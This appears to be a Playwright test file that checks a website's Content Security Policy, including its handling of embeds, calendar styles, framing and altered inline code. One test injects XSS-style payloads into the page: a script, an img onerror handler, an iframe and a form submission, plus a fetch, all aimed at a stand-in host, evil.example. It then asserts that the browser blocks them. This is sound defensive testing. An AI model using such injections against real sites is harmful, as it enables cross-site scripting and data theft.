/** Issue “Any host, the same site”, 3: a browser enforces the policy of every page, served by the real server. */
import type { BrowserContext, Page } from 'playwright';
import * as assert from 'uvu/assert';
import { browserSuite, PHONE, WAIT_TIMEOUT_MS } from '../support/browser.ts';
import { calendarHost } from '../support/calendar-host.ts';
import { assertNone, type Problem } from '../support/faults.ts';
import { missing, withNginx } from '../support/hosts/servers.ts';
import { buttonOf, calendar, EMBEDS, provide, regionOf } from '../support/providers.ts';
import { withPlainHost, withPreview } from '../support/served-site.ts';
import { inFolder, writeFiles } from '../support/sites.ts';
import { answered, hydrateAll } from '../support/visiting.ts';
import { quiet } from '../support/waiting.ts';

const why = missing.nginx();
if (why !== undefined) process.stdout.write(`LEFT OUT nginx, its pages are visited on the preview: ${why}\n`);

/**
 * The policy violations that the browser reports, such as 'script-src-elem inline', and a function that waits for one.
 */
async function refusals(context: BrowserContext) {
  const refused: string[] = [];
  const waiting = new Set<() => void>();
  await context.exposeFunction('refused', (what: string) => {
    refused.push(what);
    for (const design of waiting) design();
  });
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      if ('refused' in window && typeof window.refused === 'function')
        window.refused(`${effectiveDirective} ${blockedURI}`);
    });
  });
  const until = (what: string) =>
    new Promise<void>((resolve, reject) => {
      const design = () => {
        if (!refused.includes(what)) return;
        clearTimeout(limit);
        waiting.delete(design);
        resolve();
      };
      const limit = setTimeout(
        () => reject(new Error(`“${what}” was not refused, but ${refused.join(', ')}`)),
        WAIT_TIMEOUT_MS,
      );
      waiting.add(design);
      design();
    });
  return { refused, until };
}

/** Scripts for analytics and newsletters that request from their own servers everything that the policy allows. */
const greedy = (origin: string): string => `
  new Image().src = '${origin}/seen.gif';
  fetch('${origin}/collect', { mode: 'no-cors' });`;

/** Substitutes for all providers, for a visitor who has allowed everything. */
async function allowEverything(context: BrowserContext): Promise<void> {
  for (const embed of EMBEDS) await provide(context, embed);
  for (const address of ['https://tags.example/container.js', 'https://newsletter.example/onsite.js'])
    await context.route(address, (route) =>
      route.fulfill({ contentType: 'text/javascript', body: greedy(new URL(address).origin) }),
    );
  await context.addInitScript(() => {
    if (self === top) localStorage.setItem('consent', '{"measurement":true,"marketing":true,"embeds":true}');
  });
}

async function loadEmbeds(page: Page): Promise<void> {
  for (const embed of await page.locator('.embed').all()) {
    await embed.scrollIntoViewIfNeeded();
    await embed.and(page.locator('[data-state=shown]')).waitFor();
  }
}

await browserSuite(
  'the policy of every page',
  (test, site) => {
    const pages = [...site.routes, '/nothing', '/treatments/nothing'];

    test('the page itself violates nothing with all islands hydrated, all embeds loaded and everything allowed', async ({
      context,
      elsewhere,
    }) => {
      await allowEverything(context);
      const faults: Problem[] = [];
      const queue = pages.values();
      const worker = async () => {
        for (const route of queue) {
          const own = await context.newPage();
          const told: string[] = [];
          own.on('console', (message) => {
            if (/Content Security Policy|Permissions-Policy|integrity/i.test(message.text())) told.push(message.text());
          });
          own.on('pageerror', (error) => told.push(error.message));
          await own.goto(route);
          await hydrateAll(own);
          await loadEmbeds(own);
          faults.push(...told.map((what) => ({ where: route, what })));
          await own.close();
        }
      };
      await Promise.all([worker(), worker(), worker()]);
      assertNone(faults);
      for (const asked of [
        'https://tags.example/collect',
        'https://newsletter.example/seen.gif',
        'https://maps.example/embed?key=PUBLIC-KEY',
      ])
        assert.ok(elsewhere.includes(asked), `${asked} was not asked for`);
    });

    for (const [where, options] of [
      ['in a wide window', {}],
      ['on a phone', { viewport: PHONE }],
    ] as const)
      test(
        `names the styles that the calendar’s own script writes into the page, ${where}`,
        async ({ page, context }) => {
          const { refused } = await refusals(context);
          await calendarHost(context);
          await answered(page);
          await page.goto(calendar.route);
          await buttonOf(page, calendar).click();
          await regionOf(page, calendar).waitFor();
          await quiet(page);
          assert.equal(refused, []);
        },
        options,
      );

    test('blocked styles of a later calendar script are applied through the object model', async ({
      page,
      context,
    }) => {
      const { until } = await refusals(context);
      const { contentType, body } = calendar.answer;
      // The same styles with one more letter, whose hash is unknown.
      const later = body.replaceAll('<style>', '<style> ').replaceAll('style="', 'style=" ');
      await provide(context, calendar, (route) => route.fulfill({ contentType, body: later }));
      await answered(page);
      await page.goto(calendar.route);
      await buttonOf(page, calendar).click();
      await regionOf(page, calendar).waitFor();
      await until('style-src-elem inline');
      assert.not.ok(await page.getByText('Something went wrong').isVisible());
    });

    test('injected code and requests to other origins are refused', async ({ page, context }) => {
      const came: string[] = [];
      context.on('requestfinished', (request) => came.push(request.url()));
      const { until } = await refusals(context);
      await page.goto('/skin');
      await page.evaluate(() => {
        const write = (name: string, fields: object) =>
          document.body.append(Object.assign(document.createElement(name), fields));
        write('script', { textContent: 'document.title = "run"' });
        write('script', { src: 'https://evil.example/x.js' });
        write('style', { textContent: 'body { display: none }' });
        write('p', { innerHTML: '<img src="https://evil.example/x.gif" onerror="document.title = \'run\'">' });
        write('p', { innerHTML: '<b style="color: red">b</b>' });
        write('iframe', { src: 'https://evil.example/frame' });
        write('form', { action: 'https://evil.example/post', id: 'stolen' });
        document.querySelector<HTMLFormElement>('#stolen')?.submit();
        void fetch('https://evil.example/data').catch(() => undefined);
      });
      const expected = [
        'script-src-elem inline',
        'script-src-elem https://evil.example/x.js',
        'style-src-elem inline',
        'style-src-attr inline',
        'img-src https://evil.example/x.gif',
        'frame-src https://evil.example',
        'form-action https://evil.example/post?',
        'connect-src https://evil.example/data',
      ];
      for (const what of expected) await until(what);
      assert.not.equal(await page.title(), 'run');
      assert.ok(await page.locator('h1').isVisible());
      assert.equal(
        came.filter((address) => address.includes('evil')),
        [],
      );
    });

    for (const [what, from, to, sign] of [
      ['style', '</style>', 'body{outline:0}</style>', 'style-src-elem inline'],
      ['script', '"eagerness":"moderate"', '"eagerness":"eager"', 'script-src-elem inline'],
    ] as const)
      test(`a ${what} of the page itself is refused if its text has changed`, async ({ page, context }) => {
        const { until } = await refusals(context);
        await context.route('**/skin', async (route) => {
          const response = await route.fetch();
          const body = await response.text();
          assert.ok(body.includes(from));
          await route.fulfill({ response, body: body.replace(from, to) });
        });
        await page.goto('/skin');
        await until(sign);
      });

    test('no other site can show the page in a frame', ({ page, context }) =>
      inFolder(async (folder) => {
        await writeFiles(folder, { 'frames.html': `<!doctype html><iframe src="${site.url}/skin"></iframe>` });
        await withPlainHost(folder, async (other) => {
          const refused = context.waitForEvent('requestfailed', (request) => request.url() === `${site.url}/skin`);
          await page.goto(`${other}/frames`);
          assert.is((await refused).failure()?.errorText, 'net::ERR_BLOCKED_BY_RESPONSE');
        });
      }));
  },
  {},
  { serve: why === undefined ? withNginx : withPreview },
);
